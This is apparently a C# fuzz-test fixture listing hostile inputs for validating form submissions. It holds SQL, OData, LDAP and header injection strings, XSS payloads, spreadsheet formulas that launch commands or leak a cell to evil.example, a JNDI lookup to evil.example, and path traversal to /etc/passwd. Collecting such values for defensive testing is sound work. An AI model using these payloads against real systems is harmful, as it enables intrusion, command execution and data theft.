namespace Submissions.Functions.Tests.Fuzzing;

/// <summary>The hostile values the generators draw from. Plain text here; JSON escaping is the body builder's job.</summary>
public static class HostilePayloads
{
    public static IReadOnlyList<string> Sql { get; } =
    [
        "' OR '1'='1",
        "'; DROP TABLE Subjects;--",
        "\" OR \"\"=\"",
        "1; SELECT * FROM users WHERE 't'='t",
        "admin'--",
        "') UNION SELECT NULL,NULL--",
        "%27%20OR%201%3D1--",
    ];

    /// <summary>OData filter fragments: what a filter concatenated from input would execute.</summary>
    public static IReadOnlyList<string> OData { get; } =
    [
        "' or PartitionKey ne '",
        "x' or RowKey ge '",
        "') or (PartitionKey gt '",
        "' and Status eq 'approved",
        "$filter=PartitionKey ne ''",
        "x'%20or%20true%20or%20'",
        "''''",
    ];

    /// <summary>Spreadsheet formula injection, including the variants behind whitespace and full-width signs.</summary>
    public static IReadOnlyList<string> Csv { get; } =
    [
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
        "=1+2",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        " =1+1",
        "\uFF1D1+1",
        "=cmd|' /C notepad'!'A1'",
        "a,b,\"c\"\r\nd,e",
    ];

    public static IReadOnlyList<string> Html { get; } =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "</textarea><script>x</script>",
        "<!--",
        "&lt;b&gt;&#x3C;",
        "<iframe src=//evil.example>",
    ];

    /// <summary>Other interpreters a value could reach: logging templates, paths, headers, LDAP, JNDI, JSON.</summary>
    public static IReadOnlyList<string> Other { get; } =
    [
        "{Email}",
        "{0} {1}",
        "%s%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "line\r\nX-Injected: 1",
        "*)(uid=*))(|(uid=*",
        "{\"$ref\":\"#\"}",
        "__proto__",
        "constructor",
        "null",
        "undefined",
    ];

    /// <summary>Characters the forms must refuse in names and texts: C0, DEL, C1, bidirectional controls.</summary>
    public static IReadOnlyList<string> Control { get; } =
    [
        "\u0000", "\u0001", "\u0007", "\b", "\t", "\n", "\r", "\u000B", "\u000C", "\u001B", "\u001F", "\u007F",
        "\u0080", "\u0085", "\u009F",
    ];

    public static IReadOnlyList<string> Bidi { get; } =
    [
        "\u202E", "\u202A", "\u202B", "\u202C", "\u202D", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C",
    ];

    /// <summary>Invisible but not control characters: accepted by the rules, so they must be stored and escaped safely.</summary>
    public static IReadOnlyList<string> ZeroWidth { get; } = ["\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u034F"];

    /// <summary>Unusual but legal text: combining marks, emoji, right-to-left letters, full-width forms, Turkish i.</summary>
    public static IReadOnlyList<string> OddButLegal { get; } =
    [
        "Zoë Ångström", "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDCBB", "\u05E9\u05DC\u05D5\u05DD", "\u0627\u0644\u0633\u0644\u0627\u0645",
        "e\u0301\u0301\u0301", "\uFF21\uFF42\uFF43", "\u0130stanbul \u0131", "\u1E9E", "\u2126\u212B", "\uFDFD",
    ];

    /// <summary>JSON escapes of invalid UTF-16: lone, doubled and reversed surrogates (written into string literals as they are).</summary>
    public static IReadOnlyList<string> LoneSurrogateEscapes { get; } =
    [
        "\\ud800", "\\udc00", "\\udbff", "\\udfff", "\\ud800\\ud800", "\\udc00\\ud800", "\\ud83d", "\\ud83dx", "\\uD800\\u0041",
    ];

    /// <summary>Byte sequences that are not UTF-8: stray continuation bytes, truncated, overlong, surrogates, beyond U+10FFFF.</summary>
    public static IReadOnlyList<byte[]> InvalidUtf8 { get; } =
    [
        [0x80],
        [0xBF],
        [0xC3],
        [0xC3, 0x28],
        [0xE2, 0x82],
        [0xF0, 0x9F, 0x98],
        [0xFE],
        [0xFF],
        [0xC0, 0xAF],
        [0xC1, 0xBF],
        [0xE0, 0x80, 0xAF],
        [0xF0, 0x80, 0x80, 0xAF],
        [0xF8, 0x88, 0x80, 0x80, 0x80],
        [0xFC, 0x84, 0x80, 0x80, 0x80, 0x80],
        [0xED, 0xA0, 0x80],
        [0xED, 0xBF, 0xBF],
        [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80],
        [0xF4, 0x90, 0x80, 0x80],
        [0xC0, 0x80],
    ];

    /// <summary>Numbers no form field can hold, and number-like text that is not JSON.</summary>
    public static IReadOnlyList<string> HugeNumbers { get; } =
    [
        "1e309", "-1e309", "1E+400", "-0", "-0.0", "0.0", "1.0", "1e0", "2147483648", "-2147483649", "9223372036854775808",
        "1" + new string('0', 400), "-" + new string('9', 400), "0." + new string('0', 400) + "1", "1e-400",
        "NaN", "Infinity", "-Infinity", "0x10", "01", "+1", ".5", "1.", "1e", "--1", "1_000",
    ];
}
